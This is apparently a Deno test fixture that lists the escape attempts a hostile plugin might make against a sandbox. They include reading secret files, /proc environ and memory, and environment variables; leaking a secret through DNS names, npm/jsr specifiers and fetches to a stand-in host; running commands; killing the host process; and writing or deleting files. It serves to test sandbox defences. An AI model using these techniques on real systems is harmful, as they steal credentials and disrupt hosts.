// What a hostile plugin tries. Each answers what it got, or throws where it was stopped. It runs in Deno, as a plugin does.
import * as fs from "node:fs";

/** Computed, so that the loader does not resolve it with the bundle. */
export const load = (specifier, options) => import([specifier][0], options);
const text = { with: { type: "text" } };
const json = { with: { type: "json" } };
const first = (value) => String(value).slice(0, 200);

/** Tried one after the other in one process, which must live on. `at` are the places that the test made. */
export const attacks = {
  "files: Deno.readTextFile": (at) => Deno.readTextFileSync(at.secretFile),
  "files: node:fs": (at) => fs.readFileSync(at.secretFile, "utf8"),
  "files: open": (at) => Deno.openSync(at.secretFile).rid,
  "files: the root": () => first([...Deno.readDirSync("/")].map((entry) => entry.name)),
  "files: node:fs of the root": () => first(fs.readdirSync("/")),
  "files: stat": (at) => Deno.statSync(at.secretFile).size,
  "files: a symlink beside the bundle": (at) => Deno.readTextFileSync(at.link),
  "files: a symlink by node:fs": (at) => fs.readFileSync(at.link, "utf8"),
  "files: make a symlink": (at) => Deno.symlinkSync(at.secretFile, `${at.link}-2`),
  "files: another plugin's bundle": (at) => first(Deno.readTextFileSync(at.neighbour)),
  "files: the boot": (at) => first(Deno.readTextFileSync(at.boot)),
  "files: /proc/self/environ": () => Deno.readTextFileSync("/proc/self/environ"),
  "files: the host's environment": () => Deno.readTextFileSync(`/proc/${Deno.ppid}/environ`),
  "files: the host's memory": () => Deno.openSync(`/proc/${Deno.ppid}/mem`).rid,
  "files: /dev/stdin": () => Deno.readTextFileSync("/dev/stdin"),
  "files: node:fs/promises": async (at) => await (await load("node:fs/promises")).readFile(at.secretFile, "utf8"),
  "files: a stream": async (at) => {
    const stream = (await load("node:fs")).createReadStream(at.secretFile);
    for await (const chunk of stream) return String(chunk);
  },
  "files: /proc/self/maps": () => first(Deno.readTextFileSync("/proc/self/maps")),
  "files: /proc/self/mem": () => Deno.openSync("/proc/self/mem").rid,
  "files: /proc/self/cmdline": () => Deno.readTextFileSync("/proc/self/cmdline"),
  "files: /proc/net/tcp": () => first(Deno.readTextFileSync("/proc/net/tcp")),
  "files: open descriptors": () => [...Deno.readDirSync("/proc/self/fd")].length,
  "files: process.binding": async (at) => (await load("node:process")).binding("fs").open(at.secretFile, 0, 0),
  "files: another realm": async (at) => {
    const { runInNewContext } = await load("node:vm");
    return runInNewContext(`read(${JSON.stringify(at.secretFile)})`, { read: (path) => fs.readFileSync(path, "utf8") });
  },
  "files: permission asked for": async () => granted(await Deno.permissions.request({ name: "read" })),

  "env: Deno.env.get": () => given(Deno.env.get("HOSTILE_SECRET")),
  "env: Deno.env.toObject": () => given(Deno.env.toObject().HOSTILE_SECRET),
  "env: process.env": async () => given((await load("node:process")).env.HOSTILE_SECRET),

  "imports: a text": async (at) => (await load(`file://${at.secretFile}`, text)).default,
  "imports: a text by its path": async (at) => (await load(at.secretFile, text)).default,
  "imports: a text by the symlink": async (at) => (await load(`file://${at.link}`, text)).default,
  "imports: JSON of the host": async (at) => first(JSON.stringify((await load(`file://${at.packageJson}`, json)).default)),
  "imports: a module of the host": async (at) => first(Object.keys(await load(`file://${at.module}`))),
  "imports: npm": async (at) => first(Object.keys(await load(`npm:leak-${at.secret}@1`))),
  "imports: jsr": async (at) => first(Object.keys(await load(`jsr:@leak/${at.secret}`))),
  "imports: http": async (at) => first(Object.keys(await load(`http://127.0.0.1:${at.port}/leak.js`))),
  "imports: require": async (at) => {
    const { createRequire } = await load("node:module");
    return first(JSON.stringify(createRequire(`file://${at.packageJson}`)(at.packageJson)));
  },
  "imports: blob": async (at) => {
    const source = `export default await import("file://${at.secretFile}", { with: { type: "text" } });`;
    const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
    return (await load(url)).default.default;
  },
  "imports: data": async (at) => {
    const source = `const read = () => Deno.readTextFileSync("${at.secretFile}"); export default read();`;
    return (await load(`data:text/javascript,${encodeURIComponent(source)}`)).default;
  },

  "sockets: fetch": async (at) => (await fetch(`http://127.0.0.1:${at.port}/leak`)).status,
  "sockets: fetch to a host that the plugin may reach by the host": async () =>
    (await fetch("https://api.hostile.example/")).status,
  "sockets: TCP": async (at) => (await Deno.connect({ hostname: "127.0.0.1", port: at.port })).localAddr,
  "sockets: node:http": (at) => byHttp("node:http", `http://127.0.0.1:${at.port}/leak`),
  "sockets: node:net": async (at) => {
    const { connect } = await load("node:net");
    return new Promise((done, fail) => {
      const socket = connect(at.port, "127.0.0.1", () => done("open"));
      socket.on("error", fail);
    });
  },
  "sockets: node:http2": async (at) => {
    const { connect } = await load("node:http2");
    return new Promise((done, fail) => {
      const session = connect(`http://127.0.0.1:${at.port}`, () => done("open"));
      session.on("error", fail);
    });
  },
  "sockets: node:tls": async (at) => {
    const { connect } = await load("node:tls");
    return new Promise((done, fail) => {
      connect(at.port, "127.0.0.1", () => done("open")).on("error", fail);
    });
  },
  "sockets: EventSource": (at) =>
    new Promise((done, fail) => {
      const source = new EventSource(`http://127.0.0.1:${at.port}/leak`);
      source.onopen = () => done("open");
      source.onerror = () => fail(new Error("refused"));
    }),
  "sockets: DNS of texts": async (at) => (await Deno.resolveDns(`${at.secret}.example.com`, "TXT")).length,
  "sockets: node:dns with a server of its own": async (at) => {
    const { Resolver } = await load("node:dns/promises");
    const resolver = new Resolver();
    resolver.setServers([`127.0.0.1:${at.port}`]);
    return (await resolver.resolve4(`${at.secret}.example.com`)).length;
  },
  "sockets: WebSocket": (at) =>
    new Promise((done, fail) => {
      const socket = new WebSocket(`ws://127.0.0.1:${at.port}/leak`);
      socket.onopen = () => done("open");
      socket.onerror = () => fail(new Error("refused"));
    }),
  "sockets: Unix": async (at) => (await Deno.connect({ transport: "unix", path: at.socket })).localAddr,
  "sockets: DNS": async (at) => (await Deno.resolveDns(`${at.secret}.example.com`, "A")).length,
  "sockets: node:dns": async (at) => (await (await load("node:dns/promises")).lookup(`${at.secret}.example.com`)).address,
  "sockets: permission asked for": async () => granted(await Deno.permissions.request({ name: "net" })),

  "processes: Deno.Command": async () => (await new Deno.Command("id").output()).code,
  "processes: node:child_process": async () => (await load("node:child_process")).execSync("id").toString(),
  "processes: FFI": () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid(),
  "processes: addons": async () => (await load("node:process")).dlopen({ exports: {} }, "/tmp/x.node"),
  "processes: fork": async (at) => (await load("node:child_process")).fork(at.bundle).pid ?? given(undefined),
  "processes: cluster": async () => (await load("node:cluster")).default.fork().process.pid ?? given(undefined),
  "processes: an addon by require": async () => {
    const { createRequire } = await load("node:module");
    return first(Object.keys(createRequire("file:///tmp/")("/tmp/x.node")));
  },
  "processes: the user's account": async () => (await load("node:os")).userInfo().username,
  "processes: another working folder": () => Deno.chdir("/") ?? Deno.cwd(),
  "processes: signal to the host": () => Deno.kill(Deno.ppid, "SIGKILL"),
  "processes: signal to the host by node": async () => (await load("node:process")).kill(Deno.ppid, "SIGKILL"),
  "processes: signal to everybody": () => Deno.kill(-1, "SIGKILL"),
  "processes: the inspector": async () => (await load("node:inspector")).open(0) ?? "open",
  "processes: user": () => Deno.uid(),
  "processes: host name": () => Deno.hostname(),
  "processes: interfaces": () => Deno.networkInterfaces().length,
  "processes: a GPU": async () => (await navigator.gpu.requestAdapter()).info.vendor,

  "disk: Deno.writeTextFile": (at) => Deno.writeTextFileSync(`${at.folder}/written`, "x"),
  "disk: node:fs": (at) => fs.writeFileSync(`${at.folder}/written`, "x"),
  "disk: append to the bundle": (at) => fs.appendFileSync(at.bundle, "// more"),
  "disk: remove the bundle": (at) => Deno.removeSync(at.bundle),
  "disk: a temporary file": () => Deno.makeTempFileSync(),
  "disk: SQLite": async (at) =>
    new (await load("node:sqlite")).DatabaseSync(`${at.folder}/written.db`).exec("create table t (x)") ?? "written",
  "disk: Cache API": async () => {
    const cache = await caches.open("fill");
    await cache.put("https://fill.example/", new Response("x".repeat(1_000_000)));
    return "written";
  },
  "disk: localStorage": () => localStorage.setItem("fill", "x".repeat(100_000)) ?? "written",
  "disk: KV": async () => (await Deno.openKv()).set(["fill"], "x"),
};

const given = (value) => {
  if (value === undefined) throw new Error("not there");
  return value;
};
const granted = ({ state }) => {
  if (state !== "granted") throw new Error(state);
  return state;
};
const byHttp = async (module, url) => {
  const http = await load(module);
  return new Promise((done, fail) => http.get(url, (answer) => done(answer.statusCode)).on("error", fail));
};
